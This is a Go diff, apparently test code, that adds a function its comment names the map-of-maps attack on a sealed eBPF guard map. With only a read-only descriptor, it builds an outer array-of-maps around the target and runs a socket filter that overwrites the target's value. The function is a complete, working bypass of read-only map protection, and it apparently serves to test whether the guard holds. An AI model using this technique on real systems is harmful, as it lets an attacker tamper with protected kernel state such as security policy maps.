@@ -270,3 +270,64 @@ func iterOver(m *ebpf.Map) error {
 	}
 	return err
 }
+
+// writeThroughOuter is the map-of-maps attack on a sealed guard map: with
+// only a read-only fd to inner, it creates its own ARRAY_OF_MAPS whose inner
+// template is inner itself (BPF_MAP_CREATE with inner_map_fd), puts inner in
+// slot 0, and loads and test-runs a socket filter that looks up slot 0, then
+// the all-zero key of inner, and stores zero into the first 4 bytes of the
+// value. The
+// program names only the attacker's outer map. It returns the first error.
+func writeThroughOuter(inner *ebpf.Map) error {
+	const bpfMapCreate, bpfMapTypeArrayOfMaps = 0, 12
+	var attr [20]uint32 // map_type, key_size, value_size, max_entries, map_flags, inner_map_fd, ...
+	attr[0], attr[1], attr[2], attr[3], attr[5] = bpfMapTypeArrayOfMaps, 4, 4, 1, uint32(inner.FD())
+	fd, _, errno := unix.Syscall(unix.SYS_BPF, bpfMapCreate, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr))
+	if errno != 0 {
+		return fmt.Errorf("create the outer map: %w", errno)
+	}
+	outer, err := ebpf.NewMapFromFD(int(fd))
+	if err != nil {
+		unix.Close(int(fd))
+		return fmt.Errorf("outer map: %w", err)
+	}
+	defer outer.Close()
+	if err := outer.Put(uint32(0), uint32(inner.FD())); err != nil {
+		return fmt.Errorf("put the inner map in slot 0: %w", err)
+	}
+	// An all-zero key of inner's size, 8-byte aligned, at the bottom of
+	// the stack; its first 4 bytes are the outer map's key 0 too.
+	keyOff := -int16((inner.KeySize() + 7) &^ 7)
+	var insns asm.Instructions
+	for off := keyOff; off < 0; off += 4 {
+		insns = append(insns, asm.StoreImm(asm.RFP, off, 0, asm.Word))
+	}
+	insns = append(insns,
+		asm.Mov.Reg(asm.R2, asm.RFP),
+		asm.Add.Imm(asm.R2, int32(keyOff)),
+		asm.LoadMapPtr(asm.R1, outer.FD()),
+		asm.FnMapLookupElem.Call(),
+		asm.JEq.Imm(asm.R0, 0, "out"),
+		asm.Mov.Reg(asm.R1, asm.R0),
+		asm.Mov.Reg(asm.R2, asm.RFP),
+		asm.Add.Imm(asm.R2, int32(keyOff)),
+		asm.FnMapLookupElem.Call(),
+		asm.JEq.Imm(asm.R0, 0, "out"),
+		asm.StoreImm(asm.R0, 0, 0, asm.Word),
+		asm.Mov.Imm(asm.R0, 0).WithSymbol("out"),
+		asm.Return(),
+	)
+	p, err := ebpf.NewProgram(&ebpf.ProgramSpec{
+		Type:         ebpf.SocketFilter,
+		License:      "GPL",
+		Instructions: insns,
+	})
+	if err != nil {
+		return fmt.Errorf("load the writing program: %w", err)
+	}
+	defer p.Close()
+	if _, err := p.Run(&ebpf.RunOptions{Data: make([]byte, 64)}); err != nil {
+		return fmt.Errorf("test-run the writing program: %w", err)
+	}
+	return nil
+}
